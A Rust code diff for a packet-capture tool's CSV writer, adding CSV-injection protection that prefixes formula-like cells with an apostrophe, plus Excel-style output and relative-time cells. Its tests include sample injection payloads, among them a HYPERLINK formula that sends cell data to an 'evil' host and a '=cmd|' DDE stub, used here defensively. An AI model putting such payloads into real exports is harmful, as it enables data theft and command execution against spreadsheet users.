@@ -10,11 +10,23 @@
 //! `tests::quoting_matches_the_csv_crate` and `csv_fast_path_equals_reference` hold it to
 //! that. (One difference, for a future choice of columns: the `csv` crate writes a row of
 //! one empty field as `""`; this writer writes an empty line.)
+//!
+//! By default a text cell that a spreadsheet would run as a formula is written with a
+//! leading `'` (OWASP's CSV-injection guidance): one that starts with `=`, `+`, `-`, `@`,
+//! a tab or a carriage return, or their full-width forms (`＝`, `＋`, `－`, `＠`), which
+//! some spreadsheets take as the ASCII ones. Only text cells are checked (their first
+//! byte, so the common case costs one comparison); numbers, times, addresses and booleans
+//! never change. [`CsvStyle::verbatim`] writes them as they are, for tools that compare
+//! with tshark's text; [`CsvStyle::excel`] starts the file with a UTF-8 byte-order mark
+//! and ends rows with CRLF, as Excel expects of a file opened by double-click.
 
 use std::io::{self, Write};
 use std::net::IpAddr;
 
+use wirenote_core::capture::Timestamp;
+
 use crate::schema::{Cell, CellSink, Selection, Table};
+use crate::CsvStyle;
 
 const FLUSH_AT: usize = 64 * 1024;
 
@@ -23,6 +35,40 @@ pub(crate) struct CsvWriter<W: Write> {
     out: W,
     buf: Vec<u8>,
     scratch: String,
+    style: CsvStyle,
+    /// The first frame's time, which `time_rel` cells count from.
+    origin: Option<Timestamp>,
+}
+
+/// Whether a spreadsheet would take `field` for a formula (or a DDE command): it starts
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return, or a full-width `＝`, `＋`, `－`,
+/// `＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20).
+#[inline(always)]
+pub(crate) fn looks_like_formula(field: &[u8]) -> bool {
+    match field.first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => true,
+        Some(0xEF) => matches!(field.get(1..3), Some([0xBC, 0x9D | 0x8B | 0x8D | 0xA0])),
+        _ => false,
+    }
+}
+
+/// Appends a text cell from the capture: neutralised with a leading `'` when it looks
+/// like a formula (unless `verbatim`), then quoted if needed.
+#[inline(always)]
+fn push_capture_text(buf: &mut Vec<u8>, field: &[u8], verbatim: bool) {
+    if !verbatim && looks_like_formula(field) {
+        push_neutralised(buf, field);
+    } else {
+        push_text(buf, field);
+    }
+}
+
+#[cold]
+fn push_neutralised(buf: &mut Vec<u8>, field: &[u8]) {
+    let mut prefixed = Vec::with_capacity(field.len() + 1);
+    prefixed.push(b'\'');
+    prefixed.extend_from_slice(field);
+    push_text(buf, &prefixed);
 }
 
 fn needs_quotes(field: &[u8]) -> bool {
@@ -68,11 +114,28 @@ fn push_display(buf: &mut Vec<u8>, cell: &Cell<'_>) {
 /// Appends one cell and its trailing delimiter: the same text as the cell's `Display`,
 /// formatted by hand where it is on the per-packet path.
 #[inline(always)]
-fn push_cell(buf: &mut Vec<u8>, cell: Cell<'_>) {
+fn push_cell(buf: &mut Vec<u8>, cell: Cell<'_>, verbatim: bool, origin: Option<Timestamp>) {
     match cell {
         Cell::Null => buf.push(b','),
         Cell::UInt(v) => push_plain(buf, itoa::Buffer::new().format(v).as_bytes()),
-        Cell::Text(text) => push_text(buf, text.as_bytes()),
+        Cell::Text(text) => push_capture_text(buf, text.as_bytes(), verbatim),
+        Cell::Since(t) => {
+            let nanos = Cell::since_nanos(t, origin);
+            if nanos < 0 {
+                buf.push(b'-');
+            }
+            let abs = nanos.unsigned_abs();
+            buf.extend_from_slice(itoa::Buffer::new().format(abs / 1_000_000_000).as_bytes());
+            let mut padded = itoa::Buffer::new();
+            buf.extend_from_slice(
+                padded
+                    .format((abs % 1_000_000_000) as u32 + 1_000_000_000)
+                    .as_bytes(),
+            );
+            let dot = buf.len() - 10;
+            buf[dot] = b'.';
+            buf.push(b',');
+        }
         Cell::Time(t) if t.nanos < 1_000_000_000 => {
             // `secs.nnnnnnnnn`, as `Timestamp`'s Display and `frame.time_epoch`: the
             // nanoseconds zero-padded by formatting them above 10^9 and dropping the 1.
@@ -99,12 +162,16 @@ fn push_cell(buf: &mut Vec<u8>, cell: Cell<'_>) {
 }
 
 /// The row being built, as the schema's cell sink.
-struct Cells<'b>(&'b mut Vec<u8>);
+struct Cells<'b> {
+    buf: &'b mut Vec<u8>,
+    verbatim: bool,
+    origin: Option<Timestamp>,
+}
 
 impl CellSink for Cells<'_> {
     #[inline(always)]
     fn cell(&mut self, cell: Cell<'_>) {
-        push_cell(self.0, cell);
+        push_cell(self.buf, cell, self.verbatim, self.origin);
     }
 }
 
@@ -114,11 +181,24 @@ impl<W: Write> CsvWriter<W> {
             out,
             buf: Vec::with_capacity(FLUSH_AT + 4096),
             scratch: String::with_capacity(64),
+            style: CsvStyle::default(),
+            origin: None,
         }
     }
 
-    /// Writes the header row.
+    pub(crate) fn set_style(&mut self, style: CsvStyle) {
+        self.style = style;
+    }
+
+    pub(crate) fn set_origin(&mut self, origin: Timestamp) {
+        self.origin = Some(origin);
+    }
+
+    /// Writes the header row (after the byte-order mark, for Excel).
     pub(crate) fn header<T: Table>(&mut self, columns: &[T]) -> io::Result<()> {
+        if self.style.excel {
+            self.buf.extend_from_slice("\u{feff}".as_bytes());
+        }
         for column in columns {
             push_text(&mut self.buf, column.name().as_bytes());
         }
@@ -128,7 +208,12 @@ impl<W: Write> CsvWriter<W> {
     fn end_row(&mut self) -> io::Result<()> {
         // Every cell ended with a delimiter; the row's last one becomes the terminator.
         if let Some(last) = self.buf.last_mut() {
-            *last = b'\n';
+            if self.style.excel {
+                *last = b'\r';
+                self.buf.push(b'\n');
+            } else {
+                *last = b'\n';
+            }
         }
         if self.buf.len() >= FLUSH_AT {
             self.out.write_all(&self.buf)?;
@@ -144,7 +229,12 @@ impl<W: Write> CsvWriter<W> {
         columns: &Selection<T>,
         record: &T::Record,
     ) -> io::Result<()> {
-        columns.each_cell(record, &mut self.scratch, &mut Cells(&mut self.buf));
+        let mut cells = Cells {
+            buf: &mut self.buf,
+            verbatim: self.style.verbatim,
+            origin: self.origin,
+        };
+        columns.each_cell(record, &mut self.scratch, &mut cells);
         self.end_row()
     }
 
@@ -191,6 +281,50 @@ mod tests {
             b"a,\"SYN, ACK\",\"say \"\"hi\"\"\",\"line\r\nbreak\",\n".to_vec()
         );
         assert_eq!(ours(&row), theirs(&row));
+    }
+
+    fn cell_text(text: &str, verbatim: bool) -> String {
+        let mut buf = Vec::new();
+        push_cell(&mut buf, Cell::Text(text), verbatim, None);
+        buf.pop();
+        String::from_utf8(buf).unwrap()
+    }
+
+    /// OWASP's CSV-injection guidance: a cell starting with `=`, `+`, `-`, `@`, tab or CR
+    /// (or a full-width `＝＋－＠`) gets a leading `'`; quoting still applies; verbatim
+    /// writes it as it is; numbers never change.
+    #[test]
+    fn formula_looking_text_is_neutralised() {
+        for (text, want) in [
+            ("=1+2", "'=1+2"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            ("＝1+2", "'＝1+2"),
+            ("＠x", "'＠x"),
+            (
+                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+                "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"",
+            ),
+            ("=cmd|x", "'=cmd|x"),
+            ("GET /=1", "GET /=1"),
+            ("", ""),
+            ("→", "→"),
+            ("ｘ", "ｘ"),
+        ] {
+            assert_eq!(cell_text(text, false), want, "{text:?}");
+        }
+        assert_eq!(cell_text("=1+2", true), "=1+2");
+        let mut buf = Vec::new();
+        push_cell(
+            &mut buf,
+            Cell::Since(Timestamp { secs: 1, nanos: 0 }),
+            false,
+            Some(Timestamp { secs: 3, nanos: 5 }),
+        );
+        assert_eq!(buf, b"-2.000000005,");
     }
 
     proptest! {
